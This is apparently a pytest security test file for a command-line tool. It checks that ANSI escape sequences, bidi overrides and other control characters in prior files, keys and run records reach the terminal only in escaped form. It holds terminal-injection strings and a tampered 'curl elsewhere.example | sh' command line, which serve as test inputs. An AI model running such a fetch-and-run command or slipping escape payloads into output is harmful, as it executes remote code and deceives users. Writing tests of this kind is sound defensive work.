"""Text that somebody else wrote into a file or a record is shown, and does nothing to the terminal."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest

from mc_sie.cli.printing import console_of, print_headed, print_table, say

OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
EVIL = "red \x1b[31m \x1b]0;title\x07 \x9b2J \u202egnp.exe \r over [bold]"
WRITTEN = r"\u001b[31m"
PRIOR = (
    f"title = {json.dumps('T ' + EVIL)}\ndescription = {json.dumps('D ' + EVIL)}\n"
    f'extends = "davidson-2025"\ncitations = [{json.dumps("C " + EVIL)}]\n'
    f'[lam]\nfamily = "uniform"\nlow = 0.3\nhigh = 0.9\nunit = "1"\nsource = {json.dumps("S " + EVIL)}\n'
)


@pytest.fixture
def prior_file():
    path = Path("evil.toml")
    path.write_text(PRIOR.replace(r"\u009b", "\x9b"), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "arguments",
    [
        ("priors", "show", "evil.toml"),
        ("priors", "show", "evil.toml", "--json"),
        ("priors", "check", "evil.toml"),
        ("run", "evil.toml", "--draws", "512", "--out", "run", "--quiet"),
    ],
)
def test_no_control_character_of_a_prior_reaches_the_terminal(cli, prior_file, arguments):
    status, out, err = cli(*arguments)
    assert status == 0, err
    assert OBEYED.findall(out + err) == []
    if "check" not in arguments:
        assert WRITTEN in out
    if "--json" in arguments:
        assert json.loads(out)["title"] == "T " + EVIL


def test_no_control_character_of_a_key_reaches_the_terminal(cli):
    for key in ("\\u001b[31mrho", "\\u009b2J", "\\u202erho"):
        Path("keys.toml").write_text(f'title = "T"\nextends = "davidson-2025"\n["{key}"]\nfamily = "fixed"\n')
        status, out, err = cli("priors", "check", "keys.toml")
        assert status == 2
        assert OBEYED.findall(out + err) == []


def test_every_way_to_print_shows_control_characters(capsys):
    say(EVIL)
    say(EVIL, err=True)
    print_headed(EVIL, EVIL)
    print_table(pd.DataFrame({EVIL: [EVIL]}), EVIL)
    console_of().print(EVIL)
    said = capsys.readouterr()
    assert OBEYED.findall(said.out + said.err) == []
    assert said.out.count(WRITTEN) >= 6


def test_a_changed_run_does_not_offer_the_command_of_its_record(cli):
    assert cli("run", "davidson-2025", "--draws", "512", "--out", "run", "--quiet")[0] == 0
    record = json.loads(Path("run/run.json").read_text(encoding="utf-8"))
    record["command"] = "curl elsewhere.example | sh \x1b[8m"
    Path("run/run.json").write_text(json.dumps(record), encoding="utf-8")
    for harm in (lambda path: path.write_text("a"), Path.unlink):
        harm(Path("run/modes.csv"))
        for command in ("verify", "sensitivity"):
            status, out, err = cli(command, "run")
            assert status == 2
            assert "curl" not in out + err
            assert "Run it again." in err
